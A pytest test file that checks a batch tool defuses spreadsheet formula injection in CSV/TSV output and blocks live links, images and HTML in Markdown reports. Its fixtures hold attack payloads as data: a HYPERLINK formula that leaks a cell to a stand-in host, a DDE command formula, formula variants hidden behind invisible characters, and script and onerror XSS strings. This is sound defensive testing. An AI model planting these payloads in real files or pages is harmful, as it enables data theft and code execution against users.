"""Beyond the issue: what a row can make a spreadsheet or a Markdown viewer do.

CSV and TSV cells that begin like a formula (`=`, `+`, `-`, `@`, tab, CR) must be shown
as text in every column, whatever hides in front of the sign (a control character or an
invisible one that the writer removes). A Markdown report must not turn a customer's
text into a live link, an image that loads from a server, or HTML.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from hostile.harness import Cli

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\x1b=1+1",
    "\u200b=1+1",
    "\u00ad=1+1",
    "\ufeff=1+1",
    "\x7f=1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_playbooks(playbooks: Path, valid_yaml: str) -> Path:
    """A playbook whose draft and checklist begin with the customer's name."""
    text = valid_yaml.replace("id: valid", "id: formula", 1) + (
        '\ndraft:\n  opening: "{{ customer_name }}"\n'
        'checklist:\n  - kind: follow-up\n    do: "{{ customer_name }}"\n'
    )
    (playbooks / "formula.yaml").write_text(text, encoding="utf-8")
    return playbooks


@pytest.mark.parametrize("suffix", ["csv", "tsv"])
def test_no_cell_of_a_spreadsheet_output_starts_a_formula(
    cli: Cli, tmp_path: Path, formula_playbooks: Path, suffix: str
) -> None:
    source = tmp_path / "in.jsonl"
    source.write_text(
        "".join(
            json.dumps({"id": payload, "customer_name": payload, "channel": "email"}) + "\n"
            for payload in FORMULAS
        ),
        encoding="utf-8",
    )
    out = tmp_path / f"out.{suffix}"
    outcome = cli(
        "batch", source, "--out", out, "--scenario", "formula",
        "--playbooks", formula_playbooks, "-j", "1",
    ).exits(0, 1)  # fmt: skip
    delimiter = "\t" if suffix == "tsv" else ","
    table = list(csv.reader(io.StringIO(out.read_text("utf-8"), newline=""), delimiter=delimiter))
    header, rows = table[0], table[1:]
    assert len(rows) + outcome.err.count("rejected") >= 1
    unsafe = [
        (header[i], cell[:30])
        for row in rows
        for i, cell in enumerate(row)
        if cell.startswith(DANGEROUS_START)
    ]
    assert not unsafe, f"cells a spreadsheet would run: {unsafe}"


@pytest.mark.parametrize("column", ["channel", "severity", "language", "scenario"])
def test_a_formula_in_a_column_with_choices_is_rejected_or_defused(
    cli: Cli, tmp_path: Path, formula_playbooks: Path, column: str
) -> None:
    source = tmp_path / "in.jsonl"
    row = {"id": "T-1", "customer_name": "Dana", column: "=1+1"}
    source.write_text(json.dumps(row) + "\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    args = () if column == "scenario" else ("--scenario", "formula")
    cli("batch", source, "--out", out, *args, "--playbooks", formula_playbooks, "-j", "1").exits(
        0, 1
    )
    for cells in csv.reader(io.StringIO(out.read_text("utf-8"), newline="")):
        assert not [c for c in cells if c.startswith(DANGEROUS_START)], cells


LINK = re.compile(r"(?<!\\)!?(?<!\\)\[[^\]\n]*(?<!\\)\]\((?!\s*\))")
"""An unescaped Markdown link or image: `[text](...)` or `![alt](...)`."""


def test_markdown_report_renders_no_link_image_or_html_from_a_row(cli: Cli, tmp_path: Path) -> None:
    payloads = {
        "customer_name": "Dana [click here](http://example.invalid/login)",
        "stakes": "you need it ![x](http://example.invalid/track.png) <img src=x onerror=alert(1)>",
        "partner": "<script>alert(1)</script> [[link]](javascript:alert(1))",
    }
    source = tmp_path / "in.jsonl"
    source.write_text(json.dumps({"id": "[id](http://x.invalid)", **payloads}) + "\n", "utf-8")
    out = tmp_path / "out.md"
    cli("batch", source, "--out", out, "--scenario", "outsourced-delay", "-j", "1").exits(0, 1)
    text = out.read_text("utf-8")
    assert not re.search(r"(?<!\\)<(?:script|img)", text), "HTML is escaped"
    found = LINK.findall(text)
    assert not found, f"live Markdown links or images from the data: {found}"
